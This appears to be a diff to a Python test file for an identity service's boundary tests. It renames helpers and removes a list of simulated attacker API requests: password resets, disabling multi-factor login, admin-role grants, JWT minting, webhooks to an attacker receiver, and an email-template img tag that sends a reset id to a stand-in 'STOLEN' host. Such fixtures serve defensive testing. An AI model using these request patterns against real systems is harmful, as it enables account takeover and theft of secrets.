@@ -12,15 +12,15 @@ from identity.ids import new_id
 from tests import two_factor
 from tests.authenticator import RELYING_PARTY, Passkey
 from tests.boundary.calls import Request
-from tests.boundary.world import DEFAULT_TENANT, PASSWORD, REDIRECT_URI, STOLEN, World, provider_of
+from tests.boundary.world import DEFAULT_TENANT, PASSWORD, World, provider_of
 
 Document = dict[str, Any]
 
-_PASSWORD: Final = "another password of the thief"
-_MARK: Final = "a page of the thief"
-_SCIM: Final = "/api/scim/resource/v2"
-_PATCH_OP: Final = "urn:ietf:params:scim:api:messages:2.0:PatchOp"
-_SCIM_USER: Final = "urn:ietf:params:scim:schemas:core:2.0:User"
+STOLEN_PASSWORD: Final = "another password of the thief"
+MARK: Final = "a page of the thief"
+SCIM: Final = "/api/scim/resource/v2"
+PATCH_OP: Final = "urn:ietf:params:scim:api:messages:2.0:PatchOp"
+SCIM_USER: Final = "urn:ietf:params:scim:schemas:core:2.0:User"
 
 
 @dataclasses.dataclass(frozen=True)
@@ -61,17 +61,17 @@ class Attack:
         places = target.places
         path = self.path.format_map({name: places[name] for name in places})
         kind = "application/merge-patch+json" if self.method == "PATCH" else "application/json"
-        kind = "application/scim+json" if self.path.startswith(_SCIM) else kind
+        kind = "application/scim+json" if self.path.startswith(SCIM) else kind
         query = {} if self.query is None else self.query(target)
         body = None if self.body is None else self.body(target)
         return Request(f"attack {self.method} {self.path}", self.method, path, query, body, kind)
 
 
-def _tenant(**members: Any) -> Make:
+def tenant(**members: Any) -> Make:
     return lambda _: {"tenant": members}
 
 
-def _mails(target: Target) -> Document:
+def mails(target: Target) -> Document:
     template = target.world.planted["emailTemplateId"]
     names = ("forgotPasswordEmailTemplateId", "passwordlessEmailTemplateId", "emailUpdateEmailTemplateId",
              "verificationEmailTemplateId", "setPasswordEmailTemplateId")  # fmt: skip
@@ -80,7 +80,7 @@ def _mails(target: Target) -> Document:
     }
 
 
-def _provider(*extra: str, **members: Any) -> Make:
+def provider(*extra: str, **members: Any) -> Make:
     def make(target: Target) -> Document:
         applications = (target.world.rp.client_id, *extra)
         return provider_of(target.world.attacker.provider, *applications, **members)
@@ -88,180 +88,31 @@ def _provider(*extra: str, **members: Any) -> Make:
     return make
 
 
-def _registration(roles: list[str], **members: Any) -> Make:
+def registration(roles: list[str], **members: Any) -> Make:
     return lambda target: {
         "registration": {"applicationId": CONSOLE, "roles": roles, "data": {"tenantId": DEFAULT_TENANT}, **members}
     }
 
 
-def _new_user(**members: Any) -> Document:
+def new_user(**members: Any) -> Document:
     return {"username": new_id(), "password": PASSWORD, **members}
 
 
-def _passkey(user_id: str) -> Document:
-    passkey = Passkey()
-    return {"algorithm": passkey.algorithm, "authenticatorSupportsUserVerification": True, "credentialId": passkey.id,
-            "displayName": "Key", "name": "imported", "publicKey": passkey.pem(), "relyingPartyId": RELYING_PARTY,
+def passkey(user_id: str) -> Document:
+    made = Passkey()
+    return {"algorithm": made.algorithm, "authenticatorSupportsUserVerification": True, "credentialId": made.id,
+            "displayName": "Key", "name": "imported", "publicKey": made.pem(), "relyingPartyId": RELYING_PARTY,
             "userId": user_id}  # fmt: skip
 
 
-def _scim_patch(path: str, value: Any) -> Make:
-    return lambda target: {"schemas": [_PATCH_OP], "Operations": [
+def scim_patch(path: str, value: Any) -> Make:
+    return lambda target: {"schemas": [PATCH_OP], "Operations": [
         {"op": "replace", "path": path, "value": value(target) if callable(value) else value}]}  # fmt: skip
 
 
-def _members_of(target: Target) -> list[Document]:
+def members_of(target: Target) -> list[Document]:
     return [{"value": target.world.attacker.person["id"]}]
 
 
-TENANT: Final = "/api/tenant/{tenantId}"
-APPLICATION: Final = "/api/application/{applicationId}"
-USER: Final = "/api/user/{victimId}"
-PERSON: Final = "/api/user/{personId}"
-
-ATTACKS: Final[list[Attack]] = [
-    # The tenant: mails, sign-in and second factors
-    Attack("PATCH", TENANT, _mails),
-    Attack("PATCH", TENANT, _tenant(multiFactorConfiguration={"loginPolicy": "Disabled", "authenticator": {"enabled": False}})),
-    Attack("PATCH", TENANT, _tenant(baseURL="https://thief.example.com")),
-    Attack("PATCH", TENANT, lambda t: {"tenant": {"themeId": t.known("themeId")}}),
-    Attack("PATCH", TENANT, lambda t: {"tenant": {"connectorPolicies": [
-        {"connectorId": t.world.planted["connectorId"], "domains": ["*"], "migrate": t.rng.random() < 0.5}]}}),
-    Attack("PATCH", TENANT, lambda t: {"tenant": {"lambdaConfiguration": {"loginValidationId": t.world.planted["LoginValidation"]}}}),
-    Attack("PATCH", TENANT, _tenant(externalIdentifierConfiguration={
-        "changePasswordIdGenerator": {"length": 4, "type": "randomDigits"},
-        "passwordlessLoginGenerator": {"length": 4, "type": "randomDigits"}})),
-    Attack("PATCH", TENANT, lambda t: {"tenant": {"phoneConfiguration": {"messengerId": t.known("messengerId")}}}),
-    Attack("PATCH", TENANT, lambda t: {"tenant": {"jwtConfiguration": {"accessTokenKeyId": t.known("keyId")}}}),
-    Attack("PATCH", TENANT, _tenant(ssoConfiguration={"deviceTrustTimeToLiveInSeconds": 31536000})),
-    Attack("PATCH", TENANT, lambda t: {"tenant": {"scimServerConfiguration": {"clientEntityTypeId": t.known("entityTypeId")}}}),
-    Attack("PATCH", TENANT, _tenant(webAuthnConfiguration={"relyingPartyId": "example.com"})),
-    Attack("PATCH", TENANT, _tenant(userDeletePolicy={"unverified": {"enabled": True, "numberOfDaysToRetain": 1}})),
-    Attack("PATCH", TENANT, _tenant(failedAuthenticationConfiguration={"tooManyAttempts": 1})),
-    Attack("DELETE", TENANT, query=lambda _: {"async": "false"}),
-    Attack("POST", "/api/tenant", lambda t: {"sourceTenantId": DEFAULT_TENANT, "tenant": {"name": new_id()}}),
-    # Templates, themes, messengers, lambdas, connectors
-    Attack("PATCH", "/api/email/template/{emailTemplateId}", lambda _: {"emailTemplate": {
-        "defaultHtmlTemplate": f"<img src='{STOLEN}${{changePasswordId!''}}'>"}}),
-    Attack("POST", "/api/email/send/{emailTemplateId}", lambda t: {"userIds": [t.user["id"]]}),
-    Attack("PATCH", "/api/theme/{themeId}", lambda _: {"theme": {"templates": {"oauth2Authorize": f"<p>{_MARK}</p>"}}}),
-    Attack("PATCH", "/api/messenger/{messengerId}", lambda t: {"messenger": {"url": t.world.attacker.receiver.url}}),
-    Attack("PATCH", "/api/lambda/{lambdaId}", lambda t: {"lambda": {"body": t.known("body")}}),
-    Attack("PATCH", "/api/connector/{connectorId}", lambda t: {"connector": {"debug": True}}),
-    # Users, registrations, groups
-    Attack("PATCH", USER, lambda _: {"user": {"password": _PASSWORD}}),
-    Attack("PATCH", USER, lambda _: {"user": {"email": f"{new_id()}@thief.example.com"}}),
-    Attack("PATCH", USER, lambda _: {"user": {"twoFactor": {"methods": []}}}),
-    Attack("PATCH", USER, lambda _: {"user": {"mobilePhone": "+15555550100", "username": new_id()}}),
-    Attack("PATCH", USER, lambda _: {"user": {"parentEmail": "parent@thief.example.com"}}),
-    Attack("DELETE", USER, query=lambda t: {"hardDelete": t.rng.choice(["true", "false"])}),
-    Attack("DELETE", "/api/user/bulk", lambda t: {"userIds": [t.user["id"]], "hardDelete": True}),
-    Attack("DELETE", "/api/user/bulk", query=lambda t: {"queryString": t.user["email"], "hardDelete": "true", "dryRun": "false"}),
-    Attack("PUT", USER, query=lambda _: {"reactivate": "true"}),
-    Attack("POST", "/api/user", lambda t: {"user": _new_user(username=t.user["email"])}),
-    Attack("POST", "/api/user", lambda t: {"user": _new_user(memberships=[{"groupId": t.world.planted["groupId"]}])}),
-    Attack("POST", "/api/user/import", lambda t: {"users": [_new_user(
-        tenantId=DEFAULT_TENANT, registrations=[{"applicationId": CONSOLE, "roles": ["admin"]}])]}),
-    Attack("POST", "/api/user/import", lambda t: {"users": [_new_user(
-        tenantId=DEFAULT_TENANT, memberships=[{"groupId": t.world.planted["groupId"]}])]}),
-    Attack("POST", "/api/user/import", lambda t: {"users": [_new_user(id=t.user["id"], email=t.user["email"], tenantId=DEFAULT_TENANT)]}),
-    Attack("POST", "/api/user/registration/{personId}", _registration(["admin"])),
-    Attack("POST", "/api/user/registration/{personId}", _registration(["tenant-admin"])),
-    Attack("POST", "/api/user/registration/{personId}", _registration(["user-manager", "developer"])),
-    Attack("POST", "/api/user/registration/{personId}", _registration([])),
-    Attack("POST", "/api/user/registration", lambda t: {"user": _new_user(), **_registration(["admin"])(t)}),
-    Attack("PATCH", "/api/user/registration/{victimId}/{console}", _registration([])),
-    Attack("PATCH", "/api/user/registration/{personId}/{console}", _registration(["admin"])),
-    Attack("DELETE", "/api/user/registration/{victimId}/{console}"),
-    Attack("POST", "/api/group/member", lambda t: {"members": {t.world.planted["groupId"]: [{"userId": t.world.attacker.person["id"]}]}}),
-    Attack("PUT", "/api/group/member", lambda t: {"members": {t.world.planted["groupId"]: [{"userId": t.world.attacker.person["id"]}]}}),
-    Attack("POST", "/api/group/member", lambda t: {"members": {t.known("groupId"): [{"userId": t.world.attacker.person["id"]}]}}),
-    Attack("DELETE", "/api/group/member", query=lambda t: {"groupId": t.world.planted["groupId"]}),
-    Attack("DELETE", "/api/group/{groupId}"),
-    Attack("PATCH", "/api/group/{groupId}", lambda t: {"roleIds": [t.world.planted["roleId"]]}),
-    Attack("POST", "/api/group", lambda t: {"group": {"name": new_id()}, "roleIds": [t.world.planted["roleId"]]}),
-    # Passwords, factors, passkeys, tokens
-    Attack("POST", "/api/user/change-password", lambda t: {"loginId": t.user["email"], "password": _PASSWORD}),
-    Attack("POST", "/api/user/forgot-password", lambda t: {"loginId": t.user["email"], "sendForgotPasswordEmail": False}),
-    Attack("POST", "/api/user/forgot-password", lambda t: {"loginId": t.user["email"], "applicationId": t.world.rp.client_id}),
-    Attack("POST", "/api/user/forgot-password", lambda t: {"loginId": t.user["email"], "changePasswordId": new_id()}),
-    Attack("GET", "/api/user/two-factor/recovery-code/{victimId}"),
-    Attack("POST", "/api/user/two-factor/recovery-code/{victimId}"),
-    Attack("POST", "/api/user/two-factor/{victimId}", lambda t: {**two_factor.authenticator(), "code": _code(t)}),
-    Attack("DELETE", "/api/user/two-factor/{victimId}", query=lambda t: {"methodId": new_id(), "code": _code(t)}),
-    Attack("POST", "/api/two-factor/start", lambda t: {"loginId": t.user["email"], "applicationId": t.world.rp.client_id}),
-    Attack("POST", "/api/two-factor/send", lambda t: {"userId": t.user["id"], "method": "email", "email": "thief@thief.example.com"}),
-    Attack("POST", "/api/webauthn/import", lambda t: {"credentials": [_passkey(t.user["id"])]}),
-    Attack("POST", "/api/webauthn/register/start", lambda t: {"userId": t.user["id"], "displayName": "Mine", "workflow": "general"}),
-    Attack("DELETE", "/api/webauthn", query=lambda t: {"userId": t.user["id"]}),
-    Attack("POST", "/api/user/refresh-token/import", lambda t: {"refreshTokens": [
-        {"applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id]), "userId": t.user["id"], "token": new_id()}]}),
-    Attack("GET", "/api/jwt/refresh", query=lambda t: {"userId": t.user["id"]}),
-    Attack("POST", "/api/jwt/vend", lambda t: {"claims": {"sub": t.user["id"], "applicationId": CONSOLE, "roles": ["admin"]}}),
-    Attack("POST", "/api/passwordless/start", lambda t: {"loginId": t.user["email"], "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id])}),
-    Attack("POST", "/api/passwordless/send", lambda t: {"loginId": t.user["email"], "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id])}),
-    Attack("PUT", "/api/login", lambda t: {"userId": t.user["id"], "applicationId": t.rng.choice([CONSOLE, t.world.rp.client_id])}),
-    Attack("PUT", "/api/login/{victimId}/{applicationId}"),
-    # Verifications, actions, families, consents, links
-    Attack("PUT", "/api/user/verify-email", query=lambda t: {"email": t.user["email"], "sendVerifyEmail": "false"}),
-    Attack("POST", "/api/identity/verify/start", lambda t: {"loginId": t.user["email"], "loginIdType": "email", "applicationId": t.world.rp.client_id}),
-    Attack("POST", "/api/user/action", lambda t: {"broadcast": False, "action": {
-        "actioneeUserId": t.user["id"], "actionerUserId": t.world.attacker.person["id"],
-        "userActionId": t.known("userActionId"), "expiry": 253402300799000}}),
-    Attack("POST", "/api/user/family", lambda t: {"familyMember": {"userId": t.user["id"], "owner": False, "role": "Child"}}),
-    Attack("POST", "/api/user/consent", lambda t: {"userConsent": {
-        "userId": t.user["id"], "giverUserId": t.user["id"], "consentId": t.known("consentId"), "status": "Active"}}),
-    Attack("POST", "/api/identity-provider/link", lambda t: {"identityProviderLink": {
-        "identityProviderId": t.world.planted["identityProviderId"], "identityProviderUserId": "linked", "userId": t.user["id"]}}),
-    # Providers, applications, keys, entities
-    Attack("POST", "/api/identity-provider", _provider()),
-    Attack("POST", "/api/identity-provider", _provider(CONSOLE)),
-    Attack("POST", "/api/identity-provider", _provider(linkingStrategy="LinkByEmailForExistingUser", domains=["example.com"])),
-    Attack("PATCH", "/api/identity-provider/{identityProviderId}", lambda t: {"identityProvider": {
-        "applicationConfiguration": {CONSOLE: {"enabled": True, "createRegistration": True}}}}),
-    Attack("PATCH", "/api/identity-provider/{identityProviderId}", lambda t: {"identityProvider": {
-        "lambdaConfiguration": {"reconcileId": t.world.planted["OpenIDReconcile"]}, "debug": True}}),
-    Attack("PATCH", "/api/application/{console}", lambda t: {"application": {"registrationConfiguration": {"enabled": True}}}),
-    Attack("PATCH", "/api/application/{console}", lambda t: {"application": {"oauthConfiguration": {
-        "authorizedRedirectURLs": [REDIRECT_URI]}, "passwordlessConfiguration": {"enabled": True}}}),
-    Attack("DELETE", "/api/application/{console}", query=lambda _: {"hardDelete": "true"}),
-    Attack("POST", "/api/application/{console}/role", lambda _: {"role": {"name": new_id(), "isDefault": True}}),
-    Attack("PATCH", "/api/application/{console}/role/{roleId}", lambda _: {"role": {"isDefault": True}}),
-    Attack("DELETE", "/api/application/{console}/role", query=lambda _: {"name": "admin"}),
-    Attack("POST", "/api/application", lambda t: {"application": {"name": new_id()}, "sourceApplicationId": CONSOLE}),
-    Attack("PATCH", APPLICATION, lambda t: {"application": {"universalConfiguration": {"universal": True}}}),
-    Attack("PATCH", APPLICATION, lambda t: {"application": {"lambdaConfiguration": {"accessTokenPopulateId": t.world.planted["JWTPopulate"]}}}),
-    Attack("PATCH", APPLICATION, lambda t: {"application": {"themeId": t.known("themeId"), "registrationConfiguration": {"enabled": True, "type": "basic"}}}),
-    Attack("PATCH", APPLICATION, lambda t: {"application": {"emailConfiguration": {"forgotPasswordEmailTemplateId": t.world.planted["emailTemplateId"]}}}),
-    Attack("PATCH", APPLICATION, lambda t: {"application": {"multiFactorConfiguration": {"loginPolicy": "Disabled"}}}),
-    Attack("POST", "/api/key/import", lambda t: {"key": {"name": new_id(), "type": "HMAC", "algorithm": "HS256", "secret": "a secret of the thief, with 32 bytes"}}),
-    Attack("PUT", "/api/key/{keyId}", lambda t: {"key": {"name": new_id()}}),
-    Attack("POST", "/api/entity", lambda t: {"entity": {"name": new_id(), "type": {"id": t.known("entityTypeId")}}}),
-    Attack("POST", "/api/entity/{scimServerId}/grant", lambda t: {"grant": {"recipientEntityId": t.world.planted["scimClientId"], "permissions": ["scim:user:update"]}}),
-    Attack("POST", "/api/entity/{scimServerId}/grant", lambda t: {"grant": {"userId": t.world.attacker.person["id"], "permissions": ["scim:user:update"]}}),
-    Attack("GET", "/api/entity/{scimClientId}"),
-    Attack("POST", "/api/webhook", lambda t: {"webhook": {"url": t.world.attacker.receiver.url, "global": True, "connectTimeout": 500, "readTimeout": 1000,
-           "eventsEnabled": dict.fromkeys(("user.password.reset.send", "user.update", "user.login.success", "user.password.update"), True)}}),
-    Attack("POST", "/api/user/search", lambda t: {"search": {"queryString": t.user["email"], "numberOfResults": 5}}),
-    Attack("GET", USER),
-    Attack("GET", "/api/system/audit-log/search"),
-    Attack("GET", "/api/system/event-log/search"),
-    Attack("GET", "/api/system/webhook-event-log/search"),
-    # SCIM
-    Attack("PATCH", f"{_SCIM}/Users/{{victimId}}", _scim_patch("password", _PASSWORD)),
-    Attack("PATCH", f"{_SCIM}/Users/{{victimId}}", _scim_patch("active", value=False)),
-    Attack("PATCH", f"{_SCIM}/Users/{{victimId}}", _scim_patch("userName", lambda _: new_id())),
-    Attack("DELETE", f"{_SCIM}/Users/{{victimId}}"),
-    Attack("POST", f"{_SCIM}/Users", lambda t: {"schemas": [_SCIM_USER], "userName": t.user["email"], "password": PASSWORD}),
-    Attack("PATCH", f"{_SCIM}/Groups/{{groupId}}", _scim_patch("members", _members_of)),
-    Attack("DELETE", f"{_SCIM}/Groups/{{groupId}}"),
-    Attack("POST", f"{_SCIM}/Groups", lambda t: {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"], "displayName": new_id(), "members": _members_of(t)}),
-    Attack("GET", f"{_SCIM}/Users/{{victimId}}"),
-    Attack("POST", f"{_SCIM}/Bulk", lambda t: {"schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"], "Operations": [
-        {"method": "PATCH", "path": f"/Users/{t.user['id']}", "data": {"schemas": [_PATCH_OP], "Operations": [
-            {"op": "replace", "path": "password", "value": _PASSWORD}]}}]}),
-]  # fmt: skip
-
-
-def _code(target: Target) -> str:
+def code(target: Target) -> str:
     return two_factor.code(target.world.service.services.clock.now())
